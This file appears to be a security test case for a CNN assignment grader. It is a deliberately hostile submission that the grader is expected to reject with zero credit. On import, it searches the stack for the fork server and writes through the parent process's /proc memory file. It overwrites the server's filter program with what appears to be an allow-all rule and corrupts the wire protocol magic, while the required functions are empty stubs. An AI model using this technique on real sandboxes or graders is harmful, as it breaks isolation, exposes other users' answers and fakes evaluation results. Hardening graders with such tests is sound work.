# expect:
#   verdict: [wrong, raised]
#   earned: 0
# sentence: Writes into the process that workers are forked from: a later submission would run without a filter, or get another's answers.

import contextlib
import os
import struct
import sys

import numpy as np

from cnngrade.worker import wire

server = None
frame = sys._getframe()
while frame:
    found = frame.f_locals.get("self")
    server = found if type(found).__name__ == "Forkserver" else server
    frame = frame.f_back


def poke(target, data):
    """Write over the beginning of bytes that the fork server has at the same address."""
    with contextlib.suppress(OSError):
        descriptor = os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR)
        at = id(target) + bytes.__basicsize__ - 1
        if os.pread(descriptor, len(data), at) == target[: len(data)]:
            os.pwrite(descriptor, data, at)
            print("GOT: written", data)


if server is not None:
    poke(server._program, struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
else:
    print("GOT: nothing, since the server's object has another name now")
poke(wire._MAGIC, b"CNG0")


def pad2d(x, padding, value=0.0):
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
